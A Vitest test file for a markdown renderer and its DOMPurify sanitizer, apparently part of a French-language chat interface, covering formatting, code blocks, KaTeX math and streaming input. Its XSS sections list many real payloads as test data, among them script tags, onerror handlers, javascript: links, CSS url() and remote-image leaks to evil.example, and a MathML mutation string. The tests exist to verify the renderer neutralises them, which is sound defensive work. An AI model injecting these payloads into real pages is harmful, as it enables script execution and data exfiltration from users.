// @vitest-environment happy-dom
// @vitest-environment-options {"settings": {"handleDisabledFileLoadingAsSuccess": true}}
import { beforeAll, describe, expect, it } from 'vitest';
import {
	createSanitizer,
	isSafeImageSrc,
	markdownToUnsafeHtml,
	renderMarkdown,
	safeLinkHref
} from '../../src/lib/markdown/render';

/*
 * happy-dom vs DOMPurify (test environment only — browsers are spec-compliant):
 *  1. happy-dom's `Node.prototype.nodeName` is a getter returning '' that subclasses
 *     override; DOMPurify (>= 3.4) reads nodeName through the cached Node.prototype getter
 *     (anti-clobbering), so every element would look nameless and be stripped.
 *  2. happy-dom's NodeIterator is a plain TreeWalker: it does not implement the DOM
 *     "pre-removing steps", so once DOMPurify removes a node the walk stops and the rest of
 *     the document is left UNSANITIZED (tests would pass or fail for the wrong reason).
 * Both are patched before the sanitizer is created (it is created lazily on first render).
 */
function patchHappyDomForDomPurify(): void {
	const nodeProto = window.Node.prototype;
	const base = Object.getOwnPropertyDescriptor(nodeProto, 'nodeName');
	Object.defineProperty(nodeProto, 'nodeName', {
		configurable: true,
		get(this: Node): string {
			let proto = Object.getPrototypeOf(this) as object | null;
			while (proto && proto !== nodeProto) {
				const desc = Object.getOwnPropertyDescriptor(proto, 'nodeName');
				if (desc?.get) return desc.get.call(this) as string;
				proto = Object.getPrototypeOf(proto) as object | null;
			}
			return (base?.get?.call(this) as string | undefined) ?? '';
		}
	});

	/** Minimal spec-like NodeIterator (forward only, no filter callback). */
	function createNodeIterator(root: Node, whatToShow = 0xffffffff): Pick<NodeIterator, 'nextNode' | 'root'> {
		const shown = (n: Node) => ((whatToShow >>> (n.nodeType - 1)) & 1) === 1;
		const following = (n: Node): Node | null => {
			if (n.firstChild) return n.firstChild;
			for (let cur: Node | null = n; cur && cur !== root; cur = cur.parentNode) {
				if (cur.nextSibling) return cur.nextSibling;
			}
			return null;
		};
		const preceding = (n: Node): Node | null => {
			if (n === root) return null;
			let prev = n.previousSibling;
			if (!prev) return n.parentNode;
			while (prev.lastChild) prev = prev.lastChild;
			return prev;
		};
		let reference: Node | null = null;
		let before: Node | null = null; // node preceding `reference` when it was returned
		return {
			root,
			nextNode(): Node | null {
				let cur: Node | null;
				if (!reference) cur = root;
				else if (reference === root || root.contains(reference)) cur = following(reference);
				else cur = before ? following(before) : null; // reference was removed
				while (cur && !shown(cur)) cur = following(cur);
				if (cur) {
					reference = cur;
					before = preceding(cur);
				}
				return cur;
			}
		};
	}
	let owner = Object.getPrototypeOf(window.document) as object | null;
	while (owner && !Object.prototype.hasOwnProperty.call(owner, 'createNodeIterator')) {
		owner = Object.getPrototypeOf(owner) as object | null;
	}
	Object.defineProperty(owner ?? window.Document.prototype, 'createNodeIterator', {
		configurable: true,
		writable: true,
		value(this: Document, root: Node, whatToShow?: number) {
			return createNodeIterator(root, whatToShow);
		}
	});
}

beforeAll(patchHappyDomForDomPurify);

/** Parses rendered HTML into a detached container for structural assertions. */
function dom(html: string): HTMLElement {
	const div = document.createElement('div');
	div.innerHTML = html;
	return div;
}

/**
 * TeX sources of the KaTeX MathML annotations, read before sanitization: happy-dom parses
 * <math> as HTML-namespace elements, so DOMPurify drops the (hidden) MathML half of KaTeX
 * output here; browsers parse it in the MathML namespace and keep it.
 */
function annotations(src: string): string[] {
	const raw = markdownToUnsafeHtml(src);
	return Array.from(raw.matchAll(/<annotation encoding="application\/x-tex">([\s\S]*?)<\/annotation>/g), (m) =>
		m[1].replace(/&amp;/g, '&').replace(/&lt;/g, '<').replace(/&gt;/g, '>')
	);
}

/** Common assertions: nothing executable, nothing that fetches a third-party resource. */
function expectInert(html: string): HTMLElement {
	const root = dom(html);
	// Markup only (text is escaped, so raw HTML shown as text may legitimately contain
	// "onerror=" or "javascript:").
	const tags = (html.match(/<[^>]*>/g) ?? []).join('\n').toLowerCase();
	expect(tags).not.toMatch(/<(script|iframe|object|embed|form|input|link|meta|base|style|frame|video|audio|source|use|image|feimage)\b/);
	expect(tags.replace(/"[^"]*"|'[^']*'/g, '""')).not.toMatch(/\son[a-z]+\s*=/);
	expect(tags).not.toContain('javascript:');
	expect(tags).not.toContain('vbscript:');
	expect(tags).not.toMatch(/(href|src)="data:(?!image\/(png|jpe?g|gif|webp|avif|bmp);base64,)/);
	expect(tags).not.toMatch(/\ssrcset=|url\(/);
	expect(root.querySelectorAll('script, iframe, object, embed, form, input, link, style, use, image, feimage').length).toBe(0);
	for (const el of Array.from(root.querySelectorAll('*'))) {
		for (const attr of Array.from(el.attributes)) {
			expect(attr.name).not.toMatch(/^on/i);
			expect(attr.name).not.toMatch(/^(srcset|formaction|action|background|poster|ping|xlink:href)$/i);
			if (attr.name !== 'title') expect(attr.value.toLowerCase()).not.toContain('url(');
		}
	}
	for (const a of Array.from(root.querySelectorAll('[href]'))) {
		const href = a.getAttribute('href') ?? '';
		expect(a.tagName.toLowerCase()).toBe('a');
		expect(href).toMatch(/^(https?:|mailto:|[^a-z]|[a-z0-9+.-]*(?:[/?#]|$))/i);
		expect(href.toLowerCase()).not.toMatch(/^\s*(javascript|data|vbscript):/);
	}
	for (const el of Array.from(root.querySelectorAll('[src]'))) {
		expect(el.tagName.toLowerCase()).toBe('img');
		expect(isSafeImageSrc(el.getAttribute('src'))).toBe(true);
	}
	return root;
}

describe('renderMarkdown — GFM', () => {
	it('renders headings, emphasis, lists, blockquotes and tables', () => {
		const html = renderMarkdown(
			[
				'# Titre',
				'',
				'## Sous-titre',
				'',
				'Du **gras** et de l’*italique*.',
				'',
				'- un',
				'- deux',
				'',
				'1. premier',
				'2. second',
				'',
				'> une citation',
				'',
				'| Col A | Col B |',
				'| :---- | ----: |',
				'| a1    | b1    |',
				'',
				'- [x] fait',
				'- [ ] à faire'
			].join('\n')
		);
		const root = expectInert(html);
		expect(root.querySelector('h1')?.textContent).toBe('Titre');
		expect(root.querySelector('h2')?.textContent).toBe('Sous-titre');
		expect(root.querySelector('strong')?.textContent).toBe('gras');
		expect(root.querySelector('em')?.textContent).toBe('italique');
		expect(root.querySelectorAll('ul > li').length).toBe(4);
		expect(root.querySelectorAll('ol > li').length).toBe(2);
		expect(root.querySelector('blockquote')?.textContent).toContain('une citation');
		const table = root.querySelector('.table-wrapper > table');
		expect(table).not.toBeNull();
		expect(table?.querySelectorAll('th').length).toBe(2);
		expect(table?.querySelector('td')?.textContent).toBe('a1');
		// task list items are rendered without <input>
		expect(root.querySelectorAll('.md-task').length).toBe(2);
	});

	it('renders links with target=_blank and a safe rel', () => {
		const root = expectInert(
			renderMarkdown('[Service public](https://www.service-public.fr/) et https://legifrance.gouv.fr et [écrire](mailto:a@b.fr) [ancre](#x) [rel](/aide)')
		);
		const links = Array.from(root.querySelectorAll('a'));
		expect(links.map((a) => a.getAttribute('href'))).toEqual([
			'https://www.service-public.fr/',
			'https://legifrance.gouv.fr',
			'mailto:a@b.fr',
			'#x',
			'/aide'
		]);
		for (const a of links) {
			expect(a.getAttribute('target')).toBe('_blank');
			expect(a.getAttribute('rel')).toBe('noopener noreferrer nofollow');
		}
	});

	it('keeps inline code and escapes its content', () => {
		const root = expectInert(renderMarkdown('Utilisez `<b>x</b>` ici.'));
		expect(root.querySelector('code')?.textContent).toBe('<b>x</b>');
		expect(root.querySelector('b')).toBeNull();
	});

	it('returns an empty string for empty input', () => {
		expect(renderMarkdown('')).toBe('');
	});
});

describe('renderMarkdown — code blocks', () => {
	it('highlights a fenced block and adds a copy button', () => {
		const html = renderMarkdown('```ts\nconst x: number = 1;\n```');
		const root = expectInert(html);
		const block = root.querySelector('.code-block');
		expect(block).not.toBeNull();
		expect(block?.querySelector('.code-header .code-lang')?.textContent).toBe('ts');
		const button = block?.querySelector('button.code-copy');
		expect(button?.getAttribute('type')).toBe('button');
		expect(button?.hasAttribute('data-copy')).toBe(true);
		expect(button?.getAttribute('aria-label')).toBe('Copier le code');
		expect(button?.textContent).toBe('Copier');
		const code = block?.querySelector('pre > code');
		expect(code?.classList.contains('hljs')).toBe(true);
		expect(code?.classList.contains('language-ts')).toBe(true);
		expect(code?.querySelector('.hljs-keyword')?.textContent).toBe('const');
		expect(code?.textContent).toBe('const x: number = 1;\n');
	});

	it('supports the common languages and aliases', () => {
		for (const lang of ['js', 'typescript', 'python', 'py', 'bash', 'sh', 'shell', 'json', 'sql', 'html', 'xml', 'css', 'java', 'go', 'rust', 'yaml', 'markdown', 'diff', 'c', 'cpp', 'php']) {
			const root = dom(renderMarkdown('```' + lang + '\nx = 1\n```'));
			expect(root.querySelector(`code.language-${lang}`), lang).not.toBeNull();
		}
	});

	it('renders unknown languages as escaped plain text', () => {
		const root = expectInert(renderMarkdown('```brainfuck\n<script>alert(1)</script> ++>\n```'));
		const code = root.querySelector('pre > code');
		expect(code?.textContent).toBe('<script>alert(1)</script> ++>\n');
		expect(code?.children.length).toBe(0);
		expect(root.querySelector('.code-lang')?.textContent).toBe('brainfuck');
	});

	it('escapes HTML inside highlighted code', () => {
		const root = expectInert(renderMarkdown('```html\n<img src=x onerror=alert(1)>\n```'));
		expect(root.querySelector('img')).toBeNull();
		expect(root.querySelector('pre code')?.textContent).toContain('<img src=x onerror=alert(1)>');
	});
});

describe('renderMarkdown — math', () => {
	it('renders inline math with $…$ and \\(…\\)', () => {
		for (const src of ['Soit $x^2 + 1$ un polynôme.', 'Soit \\(x^2 + 1\\) un polynôme.']) {
			const root = expectInert(renderMarkdown(src));
			const math = root.querySelector('.math-inline .katex');
			expect(math, src).not.toBeNull();
			expect(root.querySelector('.katex .katex-html')).not.toBeNull();
			expect(annotations(src)).toEqual(['x^2 + 1']);
			expect(root.querySelector('p')?.textContent).toContain('un polynôme');
		}
	});

	it('renders block math with $$…$$ and \\[…\\]', () => {
		for (const src of ['Avant\n\n$$\n\\frac{a}{b} = \\sqrt{c}\n$$\n\nAprès', 'Avant\n\\[\\frac{a}{b} = \\sqrt{c}\\]\nAprès', '$$\\frac{a}{b} = \\sqrt{c}$$']) {
			const root = expectInert(renderMarkdown(src));
			expect(root.querySelector('.math-display .katex-display'), src).not.toBeNull();
			expect(annotations(src)).toEqual(['\\frac{a}{b} = \\sqrt{c}']);
		}
	});

	it('keeps KaTeX inline styles but no dangerous CSS', () => {
		const root = expectInert(renderMarkdown('$$\\sqrt{\\frac{a}{b}}$$'));
		expect(root.querySelector('[style]')).not.toBeNull();
	});

	it('supports ```math blocks', () => {
		const root = expectInert(renderMarkdown('```math\nE = mc^2\n```'));
		expect(root.querySelector('.katex-display')).not.toBeNull();
	});

	it('does not treat prices as math', () => {
		for (const src of ['Entre 5 $ et 10 $.', 'Between $5 and $10.', 'coûte 5$ ou 10$']) {
			const root = dom(renderMarkdown(src));
			expect(root.querySelector('.katex'), src).toBeNull();
			expect(root.textContent).toContain('$');
		}
	});

	it('leaves escaped dollars alone', () => {
		const root = dom(renderMarkdown('Prix : \\$5 et \\$6'));
		expect(root.querySelector('.katex')).toBeNull();
		expect(root.textContent).toContain('$5 et $6');
	});

	it('does not apply markdown emphasis inside math', () => {
		const root = dom(renderMarkdown('$a_1 * b_2 * c_3$'));
		expect(root.querySelector('em')).toBeNull();
		expect(annotations('$a_1 * b_2 * c_3$')).toEqual(['a_1 * b_2 * c_3']);
	});

	it('renders invalid TeX without throwing', () => {
		const root = expectInert(renderMarkdown('$\\frac{a$ et $$\\badcommand{x}$$'));
		expect(root.textContent).toBeTruthy();
	});

	it('does not honour \\href or \\url in math (trust: false)', () => {
		const html = renderMarkdown('$\\href{javascript:alert(1)}{clic}$ $\\url{https://evil.example}$');
		expectInert(html);
		expect(dom(html).querySelector('a[href]')).toBeNull();
	});
});

describe('renderMarkdown — partial (streaming) input', () => {
	const full = [
		'# Réponse',
		'',
		'Voici du code :',
		'',
		'```python',
		'def f(x):',
		'    return x ** 2',
		'```',
		'',
		'Et une formule :',
		'',
		'$$',
		'\\int_0^1 f(x)\\,dx = \\frac{1}{3}',
		'$$',
		'',
		'| a | b |',
		'|---|---|',
		'| 1 | 2 |',
		'',
		'Lien [ici](https://example.org) et $y = ax + b$.'
	].join('\n');

	it('never throws on any prefix of a document', () => {
		for (let i = 0; i <= full.length; i++) {
			const prefix = full.slice(0, i);
			expect(() => expectInert(renderMarkdown(prefix)), JSON.stringify(prefix)).not.toThrow();
		}
	});

	it('renders an unclosed fence as an open code block', () => {
		const root = expectInert(renderMarkdown('Texte\n\n```js\nconst a = 1;\nconst b'));
		const code = root.querySelector('.code-block pre code');
		expect(code?.textContent).toContain('const a = 1;');
		expect(code?.textContent).toContain('const b');
	});

	it('renders unclosed block math as pending raw text', () => {
		for (const src of ['Formule :\n\n$$\n\\frac{1}{', 'Formule :\n\\[\n\\frac{1}{']) {
			const root = expectInert(renderMarkdown(src));
			const pending = root.querySelector('.math-pending');
			expect(pending, src).not.toBeNull();
			expect(pending?.textContent).toContain('\\frac{1}{');
			expect(root.querySelector('.katex')).toBeNull();
		}
	});

	it('renders unclosed inline math as text', () => {
		const root = expectInert(renderMarkdown('Soit $x^2 + '));
		expect(root.textContent).toContain('$x^2 +');
	});

	it('survives odd inputs', () => {
		for (const src of ['```', '$$', '$', '\\[', '\\(', '|', '| a |\n|--', '> ', '[', '![', '<', '<scr', '*', '```\n$$\n', '$$\n```']) {
			expect(() => expectInert(renderMarkdown(src)), src).not.toThrow();
		}
	});
});

describe('renderMarkdown — XSS and exfiltration', () => {
	const cases: Record<string, string> = {
		script: '<script>alert(1)</script>',
		imgOnerror: '<img src=x onerror=alert(1)>',
		jsLink: '[clique](javascript:alert(1))',
		jsLinkEntities: '[clique](javascript&#58;alert(1)) [x](&#x6A;avascript:alert(1)) [y](java\tscript:alert(1))',
		jsLinkCase: '[clique](JaVaScRiPt:alert(1)) <javascript:alert(1)>',
		vbscript: '[v](vbscript:msgbox(1))',
		dataLink: '<a href="data:text/html,<script>alert(1)</script>">x</a> [d](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
		iframe: '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
		svgOnload: '<svg onload=alert(1)><use href="https://evil.example/x.svg#a"/></svg>',
		styleUrl: '<style>body{background:url(https://evil.example/s.png)}</style><div style="background:url(https://evil.example/d.png)">x</div>',
		objectEmbed: '<object data="https://evil.example/x"></object><embed src="https://evil.example/y">',
		form: '<form action="https://evil.example"><input name=a><button formaction="https://evil.example">go</button></form>',
		linkTag: '<link rel=stylesheet href="https://evil.example/x.css"><meta http-equiv=refresh content="0;url=https://evil.example">',
		srcset: '<img src="/ok.png" srcset="https://evil.example/a.png 2x">',
		mathml: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
		nestedMarkdown: '**<img src=x onerror=alert(1)>** _<a href="javascript:alert(1)">x</a>_',
		inCode: '`<script>alert(1)</script>`',
		inTable: '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
		attrBreak: '[x](https://ok.example/"onmouseover="alert(1))',
		titleBreak: '[x](https://ok.example "a\\" onmouseover=\\"alert(1)")'
	};

	for (const [name, src] of Object.entries(cases)) {
		it(`neutralises ${name}`, () => {
			const html = renderMarkdown(src);
			const root = expectInert(html);
			expect(root.querySelector('script, iframe, svg use, object, embed, img[onerror]')).toBeNull();
			expect(html).not.toMatch(/<(img|iframe|object|embed|link|use|image|source|video|audio)\b[^>]*evil\.example/i);
			for (const el of Array.from(root.querySelectorAll('*'))) {
				for (const attr of Array.from(el.attributes)) {
					expect(attr.name).not.toMatch(/^on/i);
					if (attr.name !== 'href') expect(attr.value).not.toContain('evil.example');
				}
			}
		});
	}

	it('renders raw HTML as visible, escaped text', () => {
		const root = expectInert(renderMarkdown('<script>alert(1)</script>'));
		expect(root.textContent).toContain('<script>alert(1)</script>');
		expect(root.querySelector('script')).toBeNull();
	});

	it('drops javascript: links but keeps their text', () => {
		const root = expectInert(renderMarkdown('[clique](javascript:alert(1))'));
		expect(root.textContent).toContain('clique');
		expect(root.querySelector('a')).toBeNull();
	});

	it('never emits a remote image; shows a plain link instead', () => {
		const html = renderMarkdown('![x](https://evil.example/leak.png?d=secret)');
		const root = expectInert(html);
		expect(root.querySelector('img')).toBeNull();
		expect(html).not.toMatch(/<img[^>]*evil\.example/i);
		expect(html).not.toMatch(/\ssrc(set)?=/i);
		const link = root.querySelector('a.md-image-link');
		expect(link?.getAttribute('href')).toBe('https://evil.example/leak.png?d=secret');
		expect(link?.textContent).toBe('[image : x]');
		expect(link?.getAttribute('rel')).toBe('noopener noreferrer nofollow');
	});

	it('refuses protocol-relative, backslash and scheme image tricks', () => {
		for (const src of [
			'![a](//evil.example/p.png)',
			'![a](/\\evil.example/p.png)',
			'![a](\\\\evil.example/p.png)',
			'![a](http://evil.example/p.png)',
			'![a](javascript:alert(1))',
			'![a](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)',
			'![a](data:text/html,<script>alert(1)</script>)',
			'![a](<https://evil.example/p.png>)',
			'[![a](https://evil.example/p.png)](https://ok.example)',
			'![a][ref]\n\n[ref]: https://evil.example/p.png'
		]) {
			const html = renderMarkdown(src);
			const root = expectInert(html);
			expect(root.querySelector('img'), src).toBeNull();
			expect(html, src).not.toMatch(/\ssrc=/i);
		}
	});

	it('keeps same-origin and data:image images', () => {
		const root = expectInert(
			renderMarkdown('![logo](/static/logo.png) ![p](data:image/png;base64,iVBORw0KGgo=)')
		);
		const imgs = Array.from(root.querySelectorAll('img'));
		expect(imgs.map((i) => i.getAttribute('src'))).toEqual(['/static/logo.png', 'data:image/png;base64,iVBORw0KGgo=']);
		expect(imgs[0].getAttribute('alt')).toBe('logo');
	});

	it('escapes raw HTML already at the marked layer (defence in depth)', () => {
		const raw = markdownToUnsafeHtml('<img src=x onerror=alert(1)> <script>alert(1)</script> [a](javascript:alert(1)) ![x](https://evil.example/p.png)');
		expect(raw).not.toMatch(/<img/i);
		expect(raw).not.toMatch(/<script/i);
		expect(raw).not.toContain('javascript:');
	});
});

describe('URL helpers', () => {
	it('safeLinkHref', () => {
		expect(safeLinkHref('https://a.fr')).toBe('https://a.fr');
		expect(safeLinkHref('mailto:x@y.fr')).toBe('mailto:x@y.fr');
		expect(safeLinkHref('/chemin')).toBe('/chemin');
		expect(safeLinkHref('#ancre')).toBe('#ancre');
		expect(safeLinkHref('javascript:alert(1)')).toBeNull();
		expect(safeLinkHref(' JAVASCRIPT:alert(1)')).toBeNull();
		expect(safeLinkHref('java\nscript:alert(1)')).toBeNull();
		expect(safeLinkHref('javascript&colon;alert(1)')).toBeNull();
		expect(safeLinkHref('data:text/html,x')).toBeNull();
		expect(safeLinkHref('vbscript:x')).toBeNull();
		expect(safeLinkHref('file:///etc/passwd')).toBeNull();
		expect(safeLinkHref('')).toBeNull();
	});

	it('isSafeImageSrc', () => {
		expect(isSafeImageSrc('/a.png')).toBe(true);
		expect(isSafeImageSrc('./a.png')).toBe(true);
		expect(isSafeImageSrc('a/b.png')).toBe(true);
		expect(isSafeImageSrc('data:image/png;base64,AAAA')).toBe(true);
		expect(isSafeImageSrc('https://evil.example/a.png')).toBe(false);
		expect(isSafeImageSrc('//evil.example/a.png')).toBe(false);
		expect(isSafeImageSrc('/\\evil.example/a.png')).toBe(false);
		expect(isSafeImageSrc('\t//evil.example/a.png')).toBe(false);
		expect(isSafeImageSrc('data:image/svg+xml,<svg/>')).toBe(false);
		expect(isSafeImageSrc('javascript:alert(1)')).toBe(false);
		expect(isSafeImageSrc(null)).toBe(false);
	});
});

describe('sanitizer (DOMPurify pass on its own, bypassing the marked layer)', () => {
	const sanitize = () => createSanitizer(window);

	it('removes scripts, handlers and dangerous URLs from raw HTML', () => {
		const clean = sanitize()(
			[
				'<p>ok</p><script>alert(1)</script>',
				'<img src=x onerror=alert(1)>',
				'<a href="javascript:alert(1)">js</a>',
				'<a href="data:text/html,<script>alert(1)</script>">data</a>',
				'<a href="vbscript:msgbox(1)">vb</a>',
				'<iframe srcdoc="<script>alert(1)</script>"></iframe>',
				'<svg onload=alert(1)><use href="https://evil.example/x.svg#a"/><image href="https://evil.example/i.png"/></svg>',
				'<div style="background:url(https://evil.example/d.png)">s</div>',
				'<style>@import url(https://evil.example/x.css)</style>',
				'<form action="https://evil.example"><input name=a><button formaction="https://evil.example">go</button></form>',
				'<object data="https://evil.example/x"></object><embed src="https://evil.example/y">',
				'<link rel=stylesheet href="https://evil.example/x.css">',
				'<img src="https://evil.example/leak.png?d=secret" alt="fuite">',
				'<img src="/ok.png" srcset="https://evil.example/a.png 2x">',
				'<video poster="https://evil.example/p.png"></video>',
				'<a href="https://ok.example" ping="https://evil.example/ping">ping</a>'
			].join('')
		);
		const root = expectInert(clean);
		expect(clean).not.toContain('evil.example/leak.png');
		expect(root.textContent).toContain('[image : fuite]');
		expect(root.querySelector('div[style]')).toBeNull();
		expect(root.querySelector('p')?.textContent).toBe('ok');
		const imgs = Array.from(root.querySelectorAll('img'));
		expect(imgs.map((i) => i.getAttribute('src'))).toEqual(['x', '/ok.png']); // relative: same origin
		expect(root.querySelector('[onerror]')).toBeNull();
		for (const a of Array.from(root.querySelectorAll('a'))) {
			expect(a.getAttribute('rel')).toBe('noopener noreferrer nofollow');
			expect(a.getAttribute('target')).toBe('_blank');
		}
		expect(root.querySelector('a[href="https://ok.example"]')).not.toBeNull();
		expect(root.querySelector('[ping]')).toBeNull();
	});

	it('keeps KaTeX styles but strips dangerous ones, even inside KaTeX markup', () => {
		const clean = sanitize()(
			'<span class="katex"><span style="height:1em;vertical-align:-0.25em;">a</span>' +
				'<span style="background-image:url(https://evil.example/k.png)">b</span>' +
				'<span style="color:red;behavior:url(x.htc)">c</span>' +
				'<span style="background:u\\72l(https://evil.example/e.png)">d</span></span>' +
				'<span style="position:fixed;top:0">not katex</span>'
		);
		const root = expectInert(clean);
		const styled = Array.from(root.querySelectorAll('[style]')).map((e) => e.getAttribute('style'));
		expect(styled).toEqual(['height:1em;vertical-align:-0.25em;']);
	});

	it('forces type=button on buttons and keeps the data-copy marker', () => {
		const root = dom(sanitize()('<button class="code-copy" data-copy type="submit">Copier</button><span data-x="1">y</span>'));
		const button = root.querySelector('button');
		expect(button?.getAttribute('type')).toBe('button');
		expect(button?.hasAttribute('data-copy')).toBe(true);
		expect(root.querySelector('[data-x]')).toBeNull();
	});
});


describe('block-by-block rendering of a streaming answer', () => {
	it('splits at top-level blocks and keeps fences and math blocks whole', async () => {
		const { splitBlocks } = await import('../../src/lib/markdown/render');
		const source = '# Titre\n\nUn paragraphe.\n\n```ts\nconst a = 1;\n\nconst b = 2;\n```\n\n$$\n\\sum_i x_i\n$$\n\n- un\n- deux\n';
		const blocks = splitBlocks(source);
		expect(blocks.join('').replace(/\s+/g, '')).toBe(source.replace(/\s+/g, ''));
		expect(blocks.some((b) => b.includes('const a = 1;\n\nconst b = 2;'))).toBe(true);
		expect(blocks.some((b) => b.includes('$$\n\\sum_i x_i\n$$'))).toBe(true);
		expect(splitBlocks('')).toEqual([]);
		// An unfinished fence while streaming stays one (last) block.
		const partial = splitBlocks('Texte.\n\n```py\nprint(1)\n');
		expect(partial.at(-1)).toContain('print(1)');
	});
});
